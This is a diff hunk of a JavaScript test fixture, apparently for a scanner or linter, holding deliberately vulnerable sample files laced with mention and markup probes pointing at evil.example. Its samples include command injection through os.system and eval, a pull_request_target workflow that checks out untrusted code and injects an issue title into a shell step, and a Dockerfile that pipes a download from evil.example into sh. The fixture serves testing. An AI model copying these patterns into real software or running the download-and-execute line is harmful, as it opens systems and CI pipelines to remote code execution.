@@ -18,8 +18,7 @@ const telling = {
   'ids.py': `import os\n\n\ndef f(x):\n    os.system("echo @everyone #1 <img src=x> [a](https://evil.example) " + x)\n    return eval(x)\n`,
   'names.js':
     'const a = 1\nconst a = 2\nif (a = 1) { debugger }\neval("@everyone <b>#1</b> [x](https://evil.example)")\n',
-  '.github/workflows/x.yml':
-    'on: pull_request_target\njobs:\n  "<b>@everyone</b>":\n    runs-on: ubuntu-latest\n    steps:\n      - uses: "evil/@everyone-[x](https://evil.example)@main"\n      - uses: actions/checkout@v4\n        with: {ref: "${{ github.event.pull_request.head.sha }}"}\n      - run: echo "${{ github.event.issue.title }} ```"\n',
+  '.github/workflows/x.yml': `on: pull_request_target\njobs:\n  "<b>@everyone</b>":\n    runs-on: ubuntu-latest\n    steps:\n      - uses: "evil/@everyone-[x](https://evil.example)@main"\n      - uses: actions/checkout@v4\n        with: {ref: "\${{ github.event.pull_request.head.sha }}"}\n      - run: echo "\${{ github.event.issue.title }} \`\`\`"\n`,
   Dockerfile: 'FROM evil.example/@everyone/#1:latest\nRUN curl https://evil.example/x | sh\nUSER root\n',
   'package.json': JSON.stringify(
     {
